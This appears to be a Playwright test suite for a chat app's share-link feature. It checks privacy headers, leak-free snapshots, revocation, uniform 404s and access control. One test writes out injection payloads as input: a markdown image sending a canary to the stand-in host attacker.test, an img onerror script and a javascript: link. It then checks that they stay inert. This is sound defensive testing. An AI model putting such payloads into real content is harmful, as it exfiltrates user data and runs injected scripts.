import { type Browser, expect, type Page, test } from '@playwright/test';
import { APP_URL } from '../playwright.config';
import {
  ADMIN,
  assistantMessages,
  conversationIdFromUrl,
  ensureUser,
  originHeaders,
  send,
  signIn,
  specUser,
} from './helpers';

const BOB = specUser('s09', 'Bob User');

/**
 * The canary is only ever a tool ARGUMENT: the typed text holds the JSON escape `\u0043` ("C"), so the
 * user message (which every share shows) never contains it; the fake model passes the parsed argument
 * "ARG-CANARY-7" to the `env` tool, whose result "(unset)" does not echo it back into the answer.
 */
const CANARY = 'ARG-CANARY-7';
const TOOL_MESSAGE = 'Share me [[tool:env:{"name":"ARG-\\u0043ANARY-7"}]]';

/** Sends a message in a new chat, waits for the final answer, and reloads the conversation page. */
async function chatWithTool(page: Page, text = TOOL_MESSAGE): Promise<string> {
  await page.goto('/');
  await send(page, text);
  await expect(assistantMessages(page).last()).toContainText('Tool results: (unset)');
  const id = conversationIdFromUrl(page);
  await page.goto(`/c/${id}`);
  return id;
}

/** "Share" → (options) → "Create link"; answers the link's URL. */
async function createLink(
  page: Page,
  opts: { toolDetails?: boolean; myName?: boolean } = {},
): Promise<string> {
  const dialog = page.getByRole('dialog', { name: 'Share conversation' });
  if (!(await dialog.isVisible())) await page.getByRole('button', { name: 'Share', exact: true }).click();
  if (opts.toolDetails) await dialog.getByRole('checkbox', { name: 'Include tool details' }).check();
  if (opts.myName) await dialog.getByRole('checkbox', { name: 'Show my name' }).check();
  await dialog.getByRole('button', { name: 'Create link' }).click();
  const link = dialog.getByRole('textbox', { name: 'Share link' });
  await expect(link).toHaveValue(/\/share\/[A-Za-z0-9_-]{32}$/);
  return link.inputValue();
}

async function anonymousPage(browser: Browser): Promise<Page> {
  const context = await browser.newContext();
  return context.newPage();
}

test.beforeEach(async ({ page }) => {
  await signIn(page, ADMIN);
});

test('S14/S15: a share is a public, read-only snapshot: no leaks, private headers, revoke, re-share, delete', async ({
  page,
  browser,
}) => {
  const id = await chatWithTool(page);
  const url = await createLink(page);

  const anon = await anonymousPage(browser);
  const scripts: string[] = [];
  anon.on('dialog', (d) => {
    scripts.push(d.message());
    void d.dismiss();
  });
  const res = await anon.goto(url);
  expect(res?.status()).toBe(200);
  const headers = res!.headers();
  expect(headers['x-robots-tag']).toContain('noindex');
  expect(headers['referrer-policy']).toBe('no-referrer');
  expect(headers['cache-control']).toContain('no-store');
  expect((await res!.headersArray()).filter((h) => h.name.toLowerCase() === 'set-cookie')).toHaveLength(0);

  await expect(anon.locator('[data-role="user"]')).toHaveText([TOOL_MESSAGE]);
  await expect(anon.locator('[data-role="assistant"]')).toHaveCount(1);
  await expect(anon.locator('[data-role="assistant"]')).toContainText('Tool results: (unset)');
  await expect(anon.getByText('Used tests.env')).toBeVisible();
  await expect(anon.locator('[data-tool-call] details')).toHaveCount(0);
  await expect(anon.getByRole('textbox', { name: 'Message' })).toHaveCount(0);
  await expect(anon.getByRole('button', { name: 'Continue in a new chat' })).toHaveCount(0);
  await expect(anon.locator(`a[href*="/c/"]`)).toHaveCount(0);
  const html = await anon.content();
  expect(html).not.toContain(ADMIN.email);
  expect(html).not.toContain(ADMIN.name);
  expect(html).not.toContain(CANARY);
  expect(html).not.toContain(id);
  expect(scripts).toEqual([]);

  // Snapshot: a later message in the conversation does not reach the link.
  await page.keyboard.press('Escape');
  await expect(page.getByRole('dialog', { name: 'Share conversation' })).toHaveCount(0);
  await send(page, 'A message after sharing');
  await expect(assistantMessages(page).last()).toContainText('You said: A message after sharing');
  await anon.reload();
  await expect(anon.locator('[data-role]')).toHaveCount(2);
  await expect(anon.getByText('A message after sharing')).toHaveCount(0);

  // A second link made now snapshots all 4 messages; "Revoke link" kills it on the very next request.
  await page.getByRole('button', { name: 'Share', exact: true }).click();
  const dialog = page.getByRole('dialog', { name: 'Share conversation' });
  const second = await createLink(page);
  expect(second).not.toBe(url);
  await anon.goto(second);
  await expect(anon.locator('[data-role]')).toHaveCount(4);
  await dialog.getByRole('button', { name: 'Revoke link' }).click();
  await expect(dialog.getByRole('status')).toHaveText('Link revoked');
  await expect(dialog.getByRole('textbox', { name: 'Share link' })).toHaveCount(0);
  const revoked = await anon.reload();
  expect(revoked?.status()).toBe(404);
  await expect(anon.locator('[data-role]')).toHaveCount(0);
  // The first link lives on until it is revoked itself.
  expect((await anon.goto(url))?.status()).toBe(200);
  const revoke = await page.request.delete(`/api/shares/${url.split('/').pop()}`, {
    headers: originHeaders(),
  });
  expect(revoke.status()).toBe(204);
  expect((await anon.goto(url))?.status()).toBe(404);

  // Re-sharing mints a new token; deleting the conversation kills it.
  const again = await createLink(page);
  expect(again).not.toBe(url);
  expect(again).not.toBe(second);
  expect((await anon.goto(again))?.status()).toBe(200);
  const del = await page.request.delete(`/api/conversations/${id}`, { headers: originHeaders() });
  expect(del.ok()).toBeTruthy();
  expect((await anon.goto(again))?.status()).toBe(404);
  await anon.context().close();
});

test('S13: probes of the share route (conversation id, a flipped token, junk) all get the same 404', async ({
  page,
  browser,
}) => {
  const id = await chatWithTool(page);
  const url = await createLink(page);
  const token = url.split('/').pop()!;
  const flipped = token.slice(0, -1) + (token.endsWith('A') ? 'B' : 'A');
  const anon = await anonymousPage(browser);
  for (const probe of [id, flipped, 'A'.repeat(32), 'x', `${token}x`]) {
    const res = await anon.goto(`${APP_URL}/share/${probe}`);
    expect(res?.status(), probe).toBe(404);
    expect(await anon.content()).not.toContain(TOOL_MESSAGE);
  }
  await anon.context().close();
});

test('S15: only with "Include tool details" and "Show my name" does the share show arguments, result and the owner name', async ({
  page,
  browser,
}) => {
  await chatWithTool(page);
  const url = await createLink(page, { toolDetails: true, myName: true });
  const anon = await anonymousPage(browser);
  await anon.goto(url);
  await expect(anon.getByText(`Shared by ${ADMIN.name}`)).toBeVisible();
  const call = anon.locator('[data-tool-call][data-server="tests"][data-tool-name="env"]');
  await expect(call).toHaveAttribute('data-state', 'done');
  await expect(call.locator('[data-tool-args]')).not.toBeVisible();
  await call.getByText('Used tests.env').click();
  await expect(call.locator('[data-tool-args]')).toContainText(CANARY);
  await expect(call.locator('[data-tool-output]')).toHaveText('(unset)');
  expect(await anon.content()).not.toContain(ADMIN.email);
  await anon.context().close();

  // "My shared links" lists it; revoking there (after a confirm) removes it.
  await page.goto('/shares');
  const row = page.locator(`li[data-share-token="${url.split('/').pop()}"]`);
  await expect(row.getByRole('textbox', { name: /Share link/ })).toHaveValue(url);
  await expect(row).toContainText('Tool details included');
  await row.getByRole('button', { name: 'Revoke link' }).click();
  await page
    .getByRole('dialog', { name: 'Revoke link?' })
    .getByRole('button', { name: 'Revoke link' })
    .click();
  await expect(row).toHaveCount(0);
  expect((await page.request.get(url)).status()).toBe(404);
});

test('S8/S9: images and scripts in a shared answer stay inert on the share page', async ({
  page,
  browser,
}) => {
  await page.goto('/');
  await send(
    page,
    'Pic [[say:![a](https://attacker.test/p.png?d=CANARY) <img src="https://attacker.test/i.png" onerror="alert(1)"> [x](javascript:alert(1))]]',
  );
  await expect(assistantMessages(page).last()).toContainText('Open image');
  await page.goto(page.url());
  const url = await createLink(page);
  const anon = await anonymousPage(browser);
  const attacker: string[] = [];
  anon.on('request', (r) => {
    if (r.url().includes('attacker.test')) attacker.push(r.url());
  });
  const dialogs: string[] = [];
  anon.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await anon.goto(url);
  await expect(anon.locator('[data-remote-image="attacker.test"]')).toBeVisible();
  await expect(anon.locator('img[src*="attacker.test"]')).toHaveCount(0);
  await expect(anon.locator('a[href^="javascript:"]')).toHaveCount(0);
  expect(attacker).toEqual([]);
  expect(dialogs).toEqual([]);
  await anon.context().close();
});

test("S16: another user can neither share nor export the admin's chat, but can continue from a share", async ({
  page,
  browser,
}) => {
  await ensureUser(page.request, BOB);
  const id = await chatWithTool(page);
  const url = await createLink(page);

  const bobContext = await browser.newContext({ baseURL: APP_URL });
  await signIn(bobContext, BOB);
  const share = await bobContext.request.post(`/api/conversations/${id}/share`, {
    data: {},
    headers: originHeaders(),
  });
  expect(share.status()).toBe(404);
  expect((await bobContext.request.get(`/api/conversations/${id}/export?format=md`)).status()).toBe(404);
  expect((await bobContext.request.get(`/api/conversations/${id}/export?format=json`)).status()).toBe(404);

  const bob = await bobContext.newPage();
  await bob.goto(url);
  await bob.getByRole('button', { name: 'Continue in a new chat' }).click();
  await expect(bob).toHaveURL(/\/c\/[A-Za-z0-9_-]+$/);
  const newId = conversationIdFromUrl(bob);
  expect(newId).not.toBe(id);
  await expect(bob.locator('[data-role="user"] [data-message-text]')).toHaveText([TOOL_MESSAGE]);
  await expect(assistantMessages(bob).last()).toContainText('Tool results: (unset)');
  await expect(bob.getByRole('textbox', { name: 'Message' })).toBeVisible();
  // Bob's copy is his own; the admin's conversation is still not his.
  expect((await bobContext.request.get(`/api/conversations/${newId}`)).status()).toBe(200);
  expect((await bobContext.request.get(`/api/conversations/${id}`)).status()).toBe(404);
  await bobContext.close();
});
